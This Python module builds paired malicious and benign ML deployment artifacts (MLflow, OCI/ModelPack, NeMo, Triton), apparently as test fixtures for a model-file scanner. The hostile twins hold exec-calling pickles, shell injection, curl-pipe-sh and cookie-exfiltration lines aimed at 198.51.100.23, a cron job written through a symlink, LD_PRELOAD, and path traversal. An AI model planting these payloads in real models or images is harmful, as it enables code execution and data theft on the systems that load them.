"""MLflow models, OCI layouts and ModelPack layers, NeMo archives, serving repositories."""
import gzip
import hashlib
import json

from assembly import Raw, build, call, glob, new, pickle
from pair import CODE, SHELL

from .shared import elf, floats, noise, plain_tensors, tarred, torch_zip

F = "deployments"
CONDA = "channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=24.0\n- pip:\n  - mlflow==3.1.0\n  - scikit-learn==1.6.1\nname: mlflow-env\n"


def mlmodel(function: str, more="") -> str:
    return f"artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    python_version: 3.11.7\n{function}{more}mlflow_version: 3.1.0\nmodel_uuid: 5f4dcc3b5aa765d61d8327deb882cf99\nutc_time_created: '2025-06-02 09:30:00.000000'\n"


def env(third: str) -> str:
    return f"python: 3.11.7\nbuild_dependencies:\n- pip==24.0\n- setuptools\n- {third}\ndependencies:\n- -r requirements.txt\n"


def oci(layers, config=None, title=None) -> dict:
    """An OCI image layout; `layers`: (media type, bytes, annotations)."""
    files, rows = {"oci-layout": '{"imageLayoutVersion": "1.0.0"}'}, []

    def blob(data: bytes, media: str, notes=None):
        digest = hashlib.sha256(data).hexdigest()
        files[f"blobs/sha256/{digest}"] = data
        row = {"mediaType": media, "digest": f"sha256:{digest}", "size": len(data)}
        return {**row, "annotations": notes} if notes else row

    for media, data, notes in layers:
        rows.append(blob(data, media, notes))
    kind = "application/vnd.cncf.model.config.v1+json" if config is None else "application/vnd.oci.image.config.v1+json"
    first = blob(json.dumps(config or {"descriptor": {"name": "tiny"}, "modelfs": {"type": "layers", "diffIds": [r["digest"] for r in rows]}, "config": {"format": "safetensors"}}).encode(), kind)
    manifest = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": first, "layers": rows}
    if config is None:
        manifest["artifactType"] = "application/vnd.cncf.model.manifest.v1+json"
    files["index.json"] = json.dumps({"schemaVersion": 2, "manifests": [blob(json.dumps(manifest).encode(), manifest["mediaType"], title)]})
    return files


def nemo(config: str, members=None) -> bytes:
    ckpt = torch_zip(pickle({"encoder.weight": [0.5, 0.25]}, 2), "model_weights")
    return tarred(members or [("./model_config.yaml", config.encode()), ("./model_weights.ckpt", ckpt)], "w:gz" if members is None else "w")


def add(out):
    def pair(name, hostile, twin, why, prove=None, file=None):
        out.add(F, name, hostile, twin, prove=prove, file=file, why=why)

    run = call(glob("builtins", "exec"), CODE)
    good = Raw(build(new(glob("sklearn.linear_model._base", "LinearRegression")), {"fit_intercept": True, "n_features_in_": 2, "_sklearn_version": "1.6.1"}))
    function = "    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl.gz\n    python_model_compression: gzip\n    cloudpickle_version: 3.1.1\n"
    flow = lambda obj: {"MLmodel": mlmodel(function), "conda.yaml": CONDA, "python_env.yaml": env("wheel"), "requirements.txt": "mlflow==3.1.0\n", "python_model.pkl.gz": gzip.compress(pickle(obj), mtime=0)}  # noqa: E731
    pair("mlflow-compressed-pickle", flow({"model": run}), flow({"model": good}), "The compressed python_model of an MLflow pyfunc calls exec.", "ninth-gzip-pickle:python_model.pkl.gz")
    sk = lambda where: {"MLmodel": mlmodel("    loader_module: mlflow.sklearn\n    model_path: " + where + "\n", f"  sklearn:\n    pickled_model: {where}\n    serialization_format: cloudpickle\n    sklearn_version: 1.6.1\n"), "conda.yaml": CONDA, "model.pkl": pickle(good)}  # noqa: E731
    pair("mlflow-model-outside", sk("../../../../shared/uploads/other/model.pkl"), sk("model.pkl"), "The pickle that MLflow loads is outside the model's folder, in someone else's uploads. Not run: MLflow is not installed.")
    pair("mlflow-script-in-yaml", {"MLmodel": mlmodel("    loader_module: mlflow.sklearn\n", "metadata:\n  note: !!js/function 'function(){ fetch(\"//198.51.100.23/?\" + document.cookie) }()'\n")},
         {"MLmodel": mlmodel("    loader_module: mlflow.sklearn\n", "metadata:\n  note: !!str 'function of the age and the income'\n")}, "The browser view of MLflow builds a function from the YAML tag (stored XSS, 2026 advisory). Not run: needs the web page.")
    pair("mlflow-env-shell", {"MLmodel": mlmodel("    loader_module: mlflow.sklearn\n"), "python_env.yaml": env(f"'wheel; {SHELL}; curl -s 198.51.100.23/i | sh #'"), "requirements.txt": "mlflow==3.1.0\n"},
         {"MLmodel": mlmodel("    loader_module: mlflow.sklearn\n"), "python_env.yaml": env("'wheel>=0.40; python_version >= \"3.9\"'"), "requirements.txt": "mlflow==3.1.0\n"},
         "MLflow pastes the dependencies into a shell line (command injection through python_env.yaml). Not run: MLflow is not installed.")
    project = lambda command: {"MLproject": f"name: tiny\npython_env: python_env.yaml\nentry_points:\n  main:\n    parameters:\n      alpha: {{type: float, default: 0.5}}\n    command: \"{command}\"\n", "python_env.yaml": env("wheel"), "train.py": "import sys\n\nprint(float(sys.argv[1]))\n"}  # noqa: E731
    pair("mlproject-command", project("python -c 'import urllib.request as u;exec(u.urlopen(\\\"http://198.51.100.23/t\\\").read())'; python train.py {alpha}"), project("python train.py {alpha}"), "The entry point runs code fetched from a bare address first. Not run: network.")
    load = lambda folder: {"MLmodel": mlmodel("    loader_module: tiny_loader\n    code: code\n    data: data\n"), "code/tiny_loader.py": folder, "data/w.json": "[0.5, 0.25]"}  # noqa: E731
    body = "import json\n\n\ndef _load_pyfunc(path):\n    return json.load(open(path))\n"
    pair("mlflow-loader-code", load(body + f"\n\nclass _Hook:\n    def __init_subclass__(cls, **kw):\n        __import__('subprocess').run(kw['cmd'], shell=True)\n\n\nclass _Loader(_Hook, cmd='{SHELL}'):\n    pass\n"), load(body + "\n\nclass _Hook:\n    def __init_subclass__(cls, **kw):\n        cls.name = kw['cmd']\n\n\nclass _Loader(_Hook, cmd='json'):\n    pass\n"),
         "The loader module that travels with the model starts a shell when a class is defined.", "ninth-run:code/tiny_loader.py")
    layer = lambda members: tarred(members, "w:gz")  # noqa: E731
    image = {"architecture": "amd64", "os": "linux", "config": {"Entrypoint": ["python", "serve.py"], "Env": ["PATH=/usr/bin"]}, "rootfs": {"type": "layers", "diff_ids": ["sha256:" + "0" * 64]}}
    tgz = "application/vnd.oci.image.layer.v1.tar+gzip"
    pair("layer-writes-through-link", oci([(tgz, layer([("models", ("link", "/")), ("models/etc/cron.d/refresh", b"* * * * * root curl -s http://198.51.100.23/r | sh\n")]), None)], image),
         oci([(tgz, layer([("models", ("link", "opt/models")), ("opt/models/refresh.txt", b"weights are refreshed each night\n")]), None)], image), "A layer makes a link to / and writes a cron job through it. Built as a layout, not run.")
    lib = bytearray(elf(size=5000))
    lib[16] = 3
    pre = lambda e, m: oci([(tgz, layer(m), None)], {**image, "config": {**image["config"], "Env": ["PATH=/usr/bin", e]}})  # noqa: E731
    pair("image-preloads-weights", pre("LD_PRELOAD=/models/encoder.bin", [("models/encoder.bin", bytes(lib))]), pre("MODEL_PATH=/models/encoder.bin", [("models/encoder.bin", noise(len(lib), 6))]),
         "LD_PRELOAD makes a shared library named encoder.bin part of each process. Built as a layout, not run: the library is a stub.")
    weight = "application/vnd.cncf.model.weight.v1.raw"
    note = lambda path: {"org.opencontainers.image.title": path, "org.cncf.model.filepath": path}  # noqa: E731
    pair("modelpack-title-escape", oci([(weight, plain_tensors(), note("../../../../root/.bashrc"))]), oci([(weight, plain_tensors(), note("model.safetensors"))]), "The file name of a ModelPack layer leaves the target folder: pulling overwrites .bashrc. Built from the spec, not run.")
    pickled = lambda obj: oci([("application/vnd.cncf.model.weight.v1.tar+gzip", layer({"checkpoint/part-0": torch_zip(pickle(obj, 2))}), note("checkpoint"))])  # noqa: E731
    pair("modelpack-layer-pickle", pickled({"w": [0.5], "x": run}), pickled({"w": [0.5], "x": None}), "The weight layer of a ModelPack artifact is a tar with a torch pickle that calls exec.", "ninth-oci-torch")
    conf = lambda t: f"target: nemo.collections.asr.models.EncDecCTCModel\nsample_rate: 16000\nencoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n  d_model: 8\n  blocks:\n  - name: pre\n    act: {t}\n"  # noqa: E731
    pair("nemo-target-in-list", nemo(conf(f"{{_target_: subprocess.getoutput, cmd: {SHELL}}}")), nemo(conf("{_target_: torch.nn.Hardtanh, min_val: 0.0}")), "CVE-2025-23304: a _target_ deep in a list of the config is a shell command.", "ninth-hydra", "asr.nemo")
    split = lambda a, b, arg: f"target: nemo.core.ModelPT\nnames: {{p: {a}, f: {b}}}\noptim:\n  _target_: ${{names.p}}.${{names.f}}\n  _args_: ['{arg}']\n"  # noqa: E731
    pair("nemo-target-interpolated", nemo(split("os", "system", SHELL)), nemo(split("collections", "OrderedDict", "").replace("['']", "[]")), "The target exists only after OmegaConf fills in its interpolations.", "ninth-hydra", "tts.nemo")
    safe, evil = torch_zip(pickle({"encoder.weight": [0.5, 0.25]}, 2), "model_weights"), torch_zip(pickle({"encoder.weight": [0.5, 0.25], "x": run}, 2), "model_weights")
    plain = conf("relu").encode()
    pair("nemo-second-weights", nemo("", [("./model_config.yaml", plain), ("./model_weights.ckpt", safe), ("model_weights.ckpt", evil)]), nemo("", [("./model_config.yaml", plain), ("./model_weights.ckpt", safe), ("./vocab.txt", b"a\nb\n")]),
         "Two members give the same file; the later one, a pickle that calls exec, is what is on disk after extraction.", "ninth-nemo-weights", "dup.nemo")
    ref = lambda m, n, args: {"context/io.json": json.dumps({"root": {"type": "ref", "key": "config_1"}, "objects": {"config_1": {"type": {"type": "type", "module": "fiddle._src.config", "name": "Config"}, "items": [["Attr(name='__fn_or_cls__')", {"type": "pyref", "module": m, "name": n}], *[[f"Attr(name='{k}')", {"type": "leaf", "value": v}] for k, v in args.items()]], "metadata": None, "paths": ["<root>"]}}, "refcounts": {"config_1": 1}, "version": "0.0.1"}), "weights/metadata.json": '{"sharded_backend": "zarr", "sharded_backend_version": 1}', "weights/w.safetensors": plain_tensors()}  # noqa: E731
    pair("nemo2-fiddle-config", ref("subprocess", "getoutput", {"cmd": SHELL}), ref("nemo.collections.llm.gpt.model.llama", "LlamaConfig", {"num_layers": 2}), "NeMo 2 builds what context/io.json names: here a shell command. Built from Fiddle's JSON form, not run: not installed.")
    triton = lambda lines: {"tiny/config.pbtxt": f'name: "tiny"\nplatform: "tensorflow_savedmodel"\nmax_batch_size: 8\ninput [ {{ name: "x" data_type: TYPE_FP32 dims: [ 8 ] }} ]\noutput [ {{ name: "y" data_type: TYPE_FP32 dims: [ 4 ] }} ]\n{lines}\n', "tiny/1/notes.txt": "weights\n", "tiny/1/w.bin": floats(8)}  # noqa: E731
    pair("triton-library-outside", triton('model_operations { op_library_filename: "../../../../../tmp/.cache/libops.so" }'), triton('parameters { key: "TF_NUM_INTRA_THREADS" value { string_value: "4" } }'),
         "The serving config loads a shared library from outside the repository, out of a world-writable folder. Built from model_config.proto, not run.")
